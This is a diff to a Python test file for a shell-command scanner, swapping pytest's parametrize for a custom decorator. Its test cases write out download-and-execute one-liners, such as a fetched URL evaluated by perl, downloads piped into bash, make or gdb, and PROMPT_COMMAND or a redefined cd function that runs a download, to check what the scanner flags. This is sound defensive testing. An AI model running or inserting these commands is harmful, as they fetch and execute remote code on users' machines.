@@ -2,6 +2,7 @@
 
 import pytest
 
+from tests.cases import all_cases
 from vskill_platform.scan.facts.facts import Act
 from vskill_platform.scan.languages.dispatch import read_shell
 
@@ -14,7 +15,7 @@ def remote_hosts(code: str) -> set[str | None]:
     return {fact.host for fact in read_shell(code) if fact.act is Act.RUN_REMOTE}
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         f"perl -MLWP::Simple -e 'eval get(\"{URL}\")'",
@@ -47,7 +48,7 @@ def test_a_one_liner_that_prints_what_it_fetches_runs_nothing(code: str) -> None
     assert remote_hosts(code) == set()
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         f'coproc {GET}; bash <&"${{COPROC[0]}}"',
@@ -69,7 +70,7 @@ def test_descriptors_and_variables_of_the_shell_carry_a_download(code: str) -> N
     assert remote_hosts(code) == {HOST}
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "program",
     [
         "make -f", "awk -f", "sed -f", "psql -f", "gdb -x", "vim -S", "emacs --script",
@@ -82,7 +83,7 @@ def test_a_program_runs_a_process_substitution_of_a_download(program: str) -> No
     assert remote_hosts(f"{program} <({GET})") == {HOST}
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         f"diff <({GET}) local.txt",
@@ -102,7 +103,7 @@ def test_reading_a_process_substitution_runs_nothing(code: str) -> None:
     assert remote_hosts(code) == set()
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         f"{GET} | make -f -",
@@ -124,7 +125,7 @@ def test_a_tool_runs_a_download_that_it_reads_as_its_own_code(code: str) -> None
     assert remote_hosts(code) == {HOST}
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         f"{GET} | psql -c 'copy t from stdin csv'",
@@ -139,7 +140,7 @@ def test_a_tool_that_reads_a_download_as_data_runs_nothing(code: str) -> None:
     assert remote_hosts(code) == set()
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         f"PROMPT_COMMAND='{GET} | bash'",
@@ -169,7 +170,7 @@ def test_a_variable_makes_a_program_run_a_download(code: str) -> None:
     assert remote_hosts(code) == {HOST}
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         f"{GET} -o data.json; PYTHONPATH=src python3 -m app data.json",
@@ -211,7 +212,7 @@ def test_a_download_beside_the_programs_replaces_none(code: str) -> None:
     assert remote_hosts(code) == set()
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         f"function cd {{ {GET} | bash; }}",
